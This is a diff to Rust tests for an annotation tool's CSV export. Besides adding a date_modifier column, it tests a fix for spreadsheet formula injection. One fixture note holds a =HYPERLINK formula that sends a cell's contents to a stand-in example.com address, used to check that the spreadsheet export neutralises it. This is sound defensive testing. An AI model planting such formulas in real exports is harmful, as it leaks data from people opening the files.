@@ -6,11 +6,12 @@ use annotator::model::{CharOffset, CharSpan, Document, Label, Role, Store};
 use proptest::prelude::*;
 
 use crate::support::{
-    annotations, article_sample, quote_at, small_document, store_of, unicode_sample,
+    annotations, article_sample, quote_at, small_document, span_of, store_of, unicode_sample, NOW,
 };
 
 const HEADER: &str = "document_id,annotation_id,label,start,end,quote,note,entity,date_value,\
-                      date_normalized,source_ids,sources,target_ids,targets,when_ids,when";
+                      date_normalized,date_modifier,source_ids,sources,target_ids,targets,\
+                      when_ids,when";
 
 fn plan_of(text: &str, doc: &Document) -> Result<ImportPlan, String> {
     formats::plan(csv::parse(text)?, doc)
@@ -58,19 +59,19 @@ fn export_layout() {
     assert!(out.contains(",\"Spelling checked\nagainst Le Monde\","));
     let claim = store.get("claim-1").unwrap();
     let row = format!(
-        "unicode-sample,claim-1,claim,{},{},{},\"Paraphrase, not a “direct” quote 🧐\",,,,\
+        "unicode-sample,claim-1,claim,{},{},{},\"Paraphrase, not a “direct” quote 🧐\",,,,,\
          actor-1,Maria Zakharova,inner-1,Armenia 🇦🇲,date-1,2025-01-24\r\n",
         claim.span.start, claim.span.end, claim.quote
     );
     assert!(out.contains(&row), "{out}");
     let date = store.get("date-1").unwrap();
     assert!(out.contains(&format!(
-        "unicode-sample,date-1,date,{},{},24 January 2025,,,,2025-01-24,,,,,,\r\n",
+        "unicode-sample,date-1,date,{},{},24 January 2025,,,,2025-01-24,,,,,,,\r\n",
         date.span.start, date.span.end
     )));
     let hand_set = store.get("date-4").unwrap();
     assert!(out.contains(&format!(
-        "unicode-sample,date-4,date,{},{},27 يناير,,,2025-01-27,2025-01-27,,,,,,\r\n",
+        "unicode-sample,date-4,date,{},{},27 يناير,,,2025-01-27,2025-01-27,,,,,,,\r\n",
         hand_set.span.start, hand_set.span.end
     )));
     // The claim of sample 3 names its actor by text (no entity) and lists two links in order.
@@ -86,7 +87,7 @@ fn export_layout() {
 fn computed_date_values_are_not_read_back_as_hand_set() {
     let (doc, store) = article_sample();
     let out = csv::export(&doc, store.content());
-    assert!(out.contains(",January 24,,,,2025-01-24,"), "{out}");
+    assert!(out.contains(",January 24,,,,2025-01-24,,"), "{out}");
     let back = store_of(plan_of(&out, &doc).unwrap());
     assert_eq!(back.get("date-1").unwrap().date_value, None);
 }
@@ -306,4 +307,120 @@ proptest! {
             let _ = formats::plan(foreign, &doc);
         }
     }
+}
+
+/// Files written before the `date_modifier` column existed are read as before.
+#[test]
+fn reads_files_without_the_date_modifier_column() {
+    let doc = small_document();
+    let file = "document_id,annotation_id,label,start,end,quote,note,entity,date_value,\
+                date_normalized,source_ids,sources,target_ids,targets,when_ids,when\r\n\
+                small,d,date,29,35,Friday,,,2025-01-17,2025-01-17,,,,,,\r\n";
+    let plan = plan_of(file, &doc).unwrap();
+    assert_eq!(plan.report.exact, 1);
+    let store = store_of(plan);
+    assert_eq!(
+        store.get("d").unwrap().date_value.as_deref(),
+        Some("2025-01-17")
+    );
+}
+
+/// A document whose quotes and notes a spreadsheet would run as formulas.
+fn formula_sample() -> (Document, Store) {
+    let doc = Document::new(
+        "formulas",
+        "Formulas",
+        Some("2025-03-14"),
+        "-5 percent, said the bank; +3 more, @home, plain words.",
+    );
+    let mut store = Store::new();
+    for (id, needle, note) in [
+        (
+            "minus",
+            "-5 percent",
+            "=HYPERLINK(\"https://example.com/?leak=\"&A1,\"click\")",
+        ),
+        ("plus", "+3 more", "'=already quoted by hand"),
+        ("at", "@home", "\tstarts with a tab"),
+        ("plain", "plain words", "'just an apostrophe"),
+    ] {
+        store
+            .add(
+                &doc.index,
+                id.into(),
+                Label::Actor,
+                span_of(&doc, needle),
+                NOW,
+            )
+            .unwrap();
+        store.set_note(id, note, NOW).unwrap();
+    }
+    (doc, store)
+}
+
+/// Issue 13: `=HYPERLINK(…)` in a note ran in a spreadsheet. The CSV for programs keeps every
+/// cell exact; the CSV for spreadsheets puts a `'` before each formula-like cell, and its
+/// import takes exactly that `'` off again.
+#[test]
+fn the_spreadsheet_csv_neutralises_formulas_and_reads_back_exactly() {
+    let (doc, store) = formula_sample();
+    let exact = csv::export(&doc, store.content());
+    assert!(exact.contains(",-5 percent,\"=HYPERLINK("), "{exact}");
+    let for_sheets = csv::export_for_spreadsheets(&doc, store.content());
+    assert!(
+        for_sheets.contains(",'-5 percent,\"'=HYPERLINK(\"\"https://example.com/"),
+        "{for_sheets}"
+    );
+    assert!(for_sheets.contains(",'+3 more,''=already quoted by hand,"));
+    assert!(for_sheets.contains(",'@home,'\tstarts with a tab,"));
+    assert!(
+        for_sheets.contains(",plain words,'just an apostrophe,"),
+        "a cell that is no formula stays as it is"
+    );
+    // No cell of the spreadsheet file starts a formula.
+    for line in for_sheets.split("\r\n").skip(1) {
+        for cell in line.split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t']), "{cell:?}");
+        }
+    }
+    // Read as a plain CSV, the quotes differ from the text: the reason for its own reader.
+    let plain = csv::parse(&for_sheets).unwrap();
+    assert_eq!(plain.drafts[0].quote.as_deref(), Some("'-5 percent"));
+    let back = store_of(formats::plan(csv::parse_spreadsheet(&for_sheets).unwrap(), &doc).unwrap());
+    assert_eq!(annotations(&back), annotations(&store));
+    assert_eq!(
+        csv::export_for_spreadsheets(&doc, back.content()),
+        for_sheets
+    );
+    assert_eq!(
+        csv::spreadsheet_alterations(&doc, store.content()),
+        ["3 quotes", "3 notes"]
+    );
+}
+
+#[test]
+fn the_spreadsheet_csv_is_its_own_menu_entry_and_file() {
+    use annotator::model::formats::dispatch::{
+        export, read_files, ExportFormat, Incoming, InputFile,
+    };
+    let (doc, store) = formula_sample();
+    let file = export(ExportFormat::SpreadsheetCsv, &doc, store.content());
+    assert_eq!(file.name, "formulas.spreadsheet.csv");
+    assert_eq!(file.altered, ["3 quotes", "3 notes"]);
+    assert!(export(ExportFormat::Csv, &doc, store.content())
+        .altered
+        .is_empty());
+    let incoming = read_files(
+        vec![InputFile {
+            name: file.name.clone(),
+            bytes: file.bytes.clone(),
+        }],
+        &doc,
+    );
+    let Ok(Incoming::Annotations { plan, format }) = incoming else {
+        panic!("not read as annotations: {incoming:?}");
+    };
+    assert_eq!(format, ExportFormat::SpreadsheetCsv);
+    assert_eq!(plan.report.exact, store.len());
 }
